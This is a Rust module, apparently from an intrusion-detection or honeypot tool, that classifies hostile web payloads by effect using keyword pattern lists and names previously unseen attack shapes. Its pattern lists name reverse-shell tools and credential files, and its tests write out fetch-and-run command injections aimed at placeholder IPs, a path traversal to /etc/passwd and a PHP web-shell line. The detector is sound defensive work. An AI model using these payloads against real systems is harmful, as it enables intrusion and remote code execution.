//! a hostile payload that resembles nothing known → the shape it can be recognised by, and a name for the time being.

use std::sync::LazyLock;

use aho_corasick::AhoCorasick;
use xxhash_rust::xxh3::xxh3_64;

use super::normalize::normalize;

const MAX_SEGMENTS: usize = 6;
const MAX_PARAMETERS: usize = 12;
const MAX_NAME: usize = 64;

/// What a new method is recognised by: two payloads of one shape are one method.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord)]
pub struct Shape {
    pub shape_hash: u64,
    /// `new_<where>_<what it does>`
    pub provisional_name: String,
    /// Verb, typed path, parameter names, what it does.
    pub skeleton: String,
}

/// What is hostile in a text. Each needs two signs: one alone stands in tutorials and searches.
const EFFECTS: &[(&str, &[&[&str]])] = &[
    (
        "download_and_run",
        &[
            &[
                "wget ",
                "curl ",
                "wget-",
                "curl-",
                "tftp ",
                "tftp-",
                "ftpget ",
                "certutil",
                "downloadstring",
                "downloadfile",
                "lwp-download",
                "fetch http",
            ],
            &["http://", "https://", "ftp://", "-g ", "-r ", "tftp", "ftpget"],
            &[
                "|sh",
                "|bash",
                ";sh ",
                ";sh/",
                "&&sh ",
                "chmod ",
                "bash-c",
                ";./",
                "&&./",
                "sh/tmp",
                "bash/tmp",
                ";bash ",
                "|python",
                "iex(",
                "`wget",
                "`curl",
                "$(wget",
                "$(curl",
                "cd/tmp",
                ">/tmp",
                "/bin/sh",
                "start-process",
                "invoke-expression",
            ],
        ],
    ),
    (
        "reverse_shell",
        &[
            &["/dev/tcp/", "nc-e", "ncat-e", "mkfifo", "socket.socket", "fsockopen("],
            &["bash", "/bin/sh", "sh-i", "exec", "subprocess", "cmd.exe"],
        ],
    ),
    (
        "code_evaluation",
        &[
            &[
                "runtime.getruntime",
                "getruntime(",
                "processbuilder",
                "<?php",
                "<?=",
                "eval(",
                "assert(",
                "system(",
                "shell_exec(",
                "passthru(",
                "popen(",
                "__import__(",
                "child_process",
                "execsync(",
                "#cmd",
                "@ognl.",
                "freemarker.template.utility.execute",
            ],
            &[
                "exec(",
                "base64_decode(",
                "$_post",
                "$_get",
                "$_request",
                "os.system",
                "subprocess",
                "cmd.exe",
                "/bin/sh",
                "/bin/bash",
                "whoami",
                "uname-a",
                "id)",
                "'id'",
                "phpinfo(",
                "start()",
                "sh','-c",
                "bash','-c",
            ],
        ],
    ),
    (
        "command_injection",
        &[
            &[
                "=;",
                "=|",
                "=`",
                "=$(",
                "=&&",
                ";cat/",
                "|cat/",
                ";id;",
                ";id ",
                "$(id)",
                "`id`",
                ";uname",
                "|uname",
                "&&whoami",
                "|whoami",
                ";whoami",
                ";ping-",
                "|ping-",
                ";nslookup ",
                "|nslookup ",
                ";/bin/",
                "|/bin/",
                ";busybox",
                "|busybox",
            ],
            &[
                "/etc/passwd",
                "uname",
                "whoami",
                "/bin/sh",
                "/bin/bash",
                "busybox",
                "ping-c",
                "nslookup",
                "id`",
                "id)",
                ";id",
                "|id",
                "kill",
                "rm-rf",
                "/dev/shm",
            ],
        ],
    ),
    (
        "file_read",
        &[
            &["../../", "..\\..\\", "file:///"],
            &["/etc/passwd", "/etc/shadow", "win.ini", "/proc/self/", ".ssh/id_rsa"],
        ],
    ),
];

/// One pass finds them all: (effect, group) by pattern.
static SIGNS: LazyLock<(AhoCorasick, Vec<(usize, usize)>)> = LazyLock::new(|| {
    let mut places = Vec::new();
    let mut signs: Vec<&str> = Vec::new();
    for (effect, (_, groups)) in EFFECTS.iter().enumerate() {
        for (group, any) in groups.iter().enumerate() {
            places.extend(any.iter().map(|_| (effect, group)));
            signs.extend(any.iter().copied());
        }
    }
    (AhoCorasick::new(signs).expect("a hundred short signs fit an automaton"), places)
});

/// Where a hostile request goes, and what it does: what a draft of a method is made of.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) struct Aim {
    pub(super) verb: &'static str,
    /// Typed parts stand as `<id>`, `<payload>`.
    pub(super) path: Vec<String>,
    pub(super) parameters: Vec<String>,
    pub(super) effect: &'static str,
}

/// `None` for what is not hostile, and for a bare command: that is how no one gets in.
pub(super) fn aim(payload: &str) -> Option<Aim> {
    let effect = effect(&normalize(payload))?;
    let Target { verb, path, parameters } = Target::of(payload);
    (verb != "raw").then_some(Aim { verb, path, parameters, effect })
}

/// The signs of an effect that tell that something is to run.
pub(super) fn signs_of(effect: &str) -> &'static [&'static str] {
    EFFECTS.iter().find(|it| it.0 == effect).and_then(|it| it.1.first()).copied().unwrap_or_default()
}

pub(super) fn provisional_name(path: &[String], effect: &str) -> String {
    let mut name = format!("new_{}_{effect}", slug(path));
    name.truncate(name.floor_char_boundary(MAX_NAME));
    name
}

/// The shape of a payload in which something hostile stands; `None` for anything else.
/// It does not ask whether a known method explains it: `Methods::shape` does.
pub fn shape(payload: &str) -> Option<Shape> {
    let effect = effect(&normalize(payload))?;
    let target = Target::of(payload);
    let skeleton = format!("{} /{} {} {effect}", target.verb, target.path.join("/"), target.parameters.join(","));
    let place = if target.verb == "raw" { "command".to_owned() } else { slug(&target.path) };
    let mut name = format!("new_{place}_{effect}");
    name.truncate(name.floor_char_boundary(MAX_NAME));
    Some(Shape { shape_hash: xxh3_64(skeleton.as_bytes()), provisional_name: name, skeleton })
}

/// Signs that something is to be run, where a known exploit stands already: one is enough.
static RUNS: LazyLock<AhoCorasick> = LazyLock::new(|| {
    AhoCorasick::new([
        "$(",
        "`",
        ";wget",
        ";curl",
        "|sh",
        "|bash",
        "||wget",
        "&&wget",
        "&&curl",
        "/bin/sh",
        "/bin/bash",
        "cmd.exe",
        "cmd/c",
        "powershell",
        "<?php",
        "<?=",
        "<%",
        "getruntime",
        "processbuilder",
        "scriptenginemanager",
        "system(",
        "exec(",
        "popen(",
        "eval(",
        "busybox ",
        "/dev/tcp/",
        "child_process",
        "subprocess",
        "xp_cmdshell",
        ";id;",
        "|id",
        ";cat/",
        ";ls",
        "chmod ",
        "wget http",
        "curl http",
        "cd/tmp",
    ])
    .expect("a few short signs fit an automaton")
});

/// Whether something in a normalised text looks as if it were to be run.
pub(super) fn runs_something(text: &str) -> bool {
    RUNS.is_match(text)
}

fn effect(text: &str) -> Option<&'static str> {
    let (signs, places) = &*SIGNS;
    let mut seen = [0u8; EFFECTS.len()];
    for hit in signs.find_overlapping_iter(text) {
        let (effect, group) = places[hit.pattern().as_usize()];
        // The first group is what is run; the others may stand anywhere.
        if group > 0 || commanded(text, hit.start()) {
            seen[effect] |= 1 << group;
        }
    }
    let whole = |groups: usize| (1u8 << groups) - 1;
    EFFECTS.iter().zip(seen).find(|((_, groups), seen)| *seen == whole(groups.len())).map(|((effect, _), _)| *effect)
}

/// Whether what begins here stands where a command would: not in the middle of a sentence ("is curl … safe").
fn commanded(text: &str, at: usize) -> bool {
    const RUNNERS: &[&str] =
        &["busybox", "sudo", "nohup", "exec", "env", "then", "do", "c", "tmp", "shm", "run", "var"];
    match text[..at].strip_suffix(' ') {
        Some(before) => {
            let word = before.rsplit(|c: char| !c.is_ascii_alphanumeric()).next().unwrap_or("");
            RUNNERS.contains(&word)
        }
        None => true,
    }
}

/// Where a request goes, without what varies from one to the next.
struct Target {
    verb: &'static str,
    path: Vec<String>,
    parameters: Vec<String>,
}

impl Target {
    fn of(payload: &str) -> Self {
        let line = payload.trim_start().lines().next().unwrap_or("");
        let (verb, uri) = verb_and_uri(line);
        let Some(uri) = uri else { return Self { verb: "raw", path: Vec::new(), parameters: Vec::new() } };
        let uri = match uri.split_once("://") {
            Some((scheme, rest)) if scheme.bytes().all(|b| b.is_ascii_alphabetic()) => {
                rest.find('/').map_or("/", |at| &rest[at..])
            }
            _ => uri,
        };
        let (path, query) = uri.split_once('?').unwrap_or((uri, ""));
        let body = payload.split_once("\r\n\r\n").or_else(|| payload.split_once("\n\n")).map_or("", |(_, body)| body);
        // In a form the names are the method's, the values the attacker's.
        let form = if body.trim_start().starts_with(['{', '<', '[', '-']) { "" } else { body };
        let mut parameters: Vec<String> = query
            .split('&')
            .chain(form.split('&'))
            .filter_map(|pair| pair.split_once('='))
            .map(|(name, _)| slug(&[normalize(name)]))
            .filter(|name| !name.is_empty())
            .collect();
        parameters.sort();
        parameters.dedup();
        parameters.truncate(MAX_PARAMETERS);
        let parts = path.split('/').filter(|it| !it.is_empty()).map(segment).take(MAX_SEGMENTS);
        // From the first step up on, a path is the attacker's.
        let path = parts.take_while(|part| part != "..").collect();
        Self { verb, path, parameters }
    }
}

fn verb_and_uri(line: &str) -> (&'static str, Option<&str>) {
    let mut words = line.split(' ').filter(|word| !word.is_empty());
    let first = words.next().unwrap_or("");
    for verb in ["get", "post", "put", "head", "delete", "options", "patch"] {
        if first.eq_ignore_ascii_case(verb) {
            return (verb, words.next());
        }
    }
    let is_uri = first.starts_with('/') && first.contains('?') || first.contains("://") && !first.starts_with('-');
    ("get", is_uri.then_some(first))
}

/// A path's part; one that holds the payload itself, a number or a random word is typed.
fn segment(part: &str) -> String {
    let text = normalize(part);
    let plain = text.bytes().all(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'-' | b'_'));
    let digits = text.bytes().filter(u8::is_ascii_digit).count();
    if !plain || text.len() > 40 {
        "<payload>".to_owned()
    } else if digits * 3 > text.len() || (text.len() >= 16 && digits > 2) {
        "<id>".to_owned()
    } else {
        text
    }
}

fn slug<S: AsRef<str>>(parts: &[S]) -> String {
    let mut out = String::new();
    for part in parts {
        for c in part.as_ref().chars() {
            if c.is_ascii_alphanumeric() {
                out.push(c.to_ascii_lowercase());
            } else if !out.is_empty() && !out.ends_with('_') {
                out.push('_');
            }
        }
        if !out.is_empty() && !out.ends_with('_') {
            out.push('_');
        }
        if out.len() >= 40 {
            break;
        }
    }
    out.truncate(40);
    let out = out.trim_end_matches('_');
    if out.is_empty() { "root".to_owned() } else { out.to_owned() }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn one_shape_whatever_the_address_and_the_encoding() {
        let a = shape("GET /cgi-bin/zork.cgi?cmd=;wget+http://192.0.2.1/a.sh+-O+/tmp/a;sh+/tmp/a HTTP/1.1").unwrap();
        let b = shape("GET /cgi-bin/zork.cgi?cmd=%3Bcurl%20http%3A%2F%2F198.51.100.7%2Fzz%20%7Csh HTTP/1.1").unwrap();
        assert_eq!(a, b);
        assert_eq!(a.provisional_name, "new_cgi_bin_zork_cgi_download_and_run");
        let other = shape("POST /api/zork HTTP/1.1\r\n\r\nhost=;curl http://192.0.2.1/a|sh").unwrap();
        assert_ne!(a.shape_hash, other.shape_hash);
    }

    #[test]
    fn a_bare_command_and_other_effects_have_a_shape_too() {
        let name = |payload: &str| shape(payload).unwrap().provisional_name;
        assert_eq!(name("./wget http://192.0.2.1/x -O- | sh"), "new_command_download_and_run");
        assert_eq!(name("GET /a/../../../../etc/passwd HTTP/1.1"), "new_a_file_read");
        assert_eq!(name("POST /t HTTP/1.1\r\n\r\nx=<?php system($_GET[1]);"), "new_t_code_evaluation");
    }

    #[test]
    fn the_ordinary_has_none() {
        for payload in
            ["GET / HTTP/1.1", "GET /search?q=how+to+use+wget", "GET /docs/curl?x=http://a.test", "", "\u{0}\u{1}"]
        {
            assert_eq!(shape(payload), None, "{payload}");
        }
    }
}
